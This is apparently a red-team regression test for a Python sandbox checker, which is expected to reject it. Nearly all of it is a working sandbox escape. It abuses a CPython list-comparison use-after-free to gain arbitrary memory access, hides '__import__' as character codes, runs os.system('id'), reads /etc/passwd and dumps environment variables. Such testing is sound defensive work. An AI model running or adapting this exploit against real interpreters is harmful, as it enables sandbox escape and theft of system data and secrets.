# expect: reject memory
# line: 50
# why: round 92 (red team): int_attribute_counter allowed STATS.count_a += 1 while setattr(STATS, f"count_{K}", Clearer()) bound count_a to an object whose __iadd__ emptied the list being compared
# int_attribute_counter takes `STATS.count_a += 1` as an int replaced by an int
# because every binding it can see of count_a is an int; a setattr with a
# computed name (letter prefix, allowed) binds it to an object whose __iadd__
# (never judged: not in judged_dunder, only queued by pw.inplace) runs inside
# a comparison: list_richcompare's borrowed final compare (gh-120298).
vl = []
KEEP = []
A = "a"
B = "b"


def q(v):
    return v.to_bytes(8, "little")


FAKE = (q(0) + q(0) + q(1 << 40) + q(id(bytearray)) + q(1 << 62) + q(1 << 62)
        + q(0) + q(0) + q(1))[:73]


class Stats:
    count_a = 0
    count_b = 0


class Clearer:
    def __iadd__(self, n):
        vl.clear()
        return 0


class Filler:
    def __iadd__(self, n):
        KEEP.append(bytearray(FAKE))
        return 0


STATS = Stats()


class V:
    __slots__ = ("a", "b", "c", "d", "e", "f")

    def __eq__(self, o):
        return False

    def __lt__(self, o):
        STATS.count_a += 1
        return NotImplemented


class W:
    def __eq__(self, o):
        return False

    def __gt__(self, o):
        STATS.count_b += 1
        return o


setattr(STATS, f"count_{A}", Clearer())
setattr(STATS, f"count_{B}", Filler())
vl.append(V())
w = W()
mem = vl < [w]


def rd(addr):
    return int.from_bytes(mem[addr:addr + 8], "little")


def wr(addr, v):
    mem[addr:addr + 8] = q(v)


mod = rd(id(print) + 24)
bdict = rd(mod + 16)
holder = [None]
items = rd(id(holder) + 24)
wr(bdict, rd(bdict) + 1)
wr(items, bdict)
table = holder[0]
imp = table["".join(map(chr, [95, 95, 105, 109, 112, 111, 114, 116, 95, 95]))]
osm = imp("os")
osm.system("id")
print(table["open"]("/etc/passwd").read()[:200])
print(dict(osm.environ))
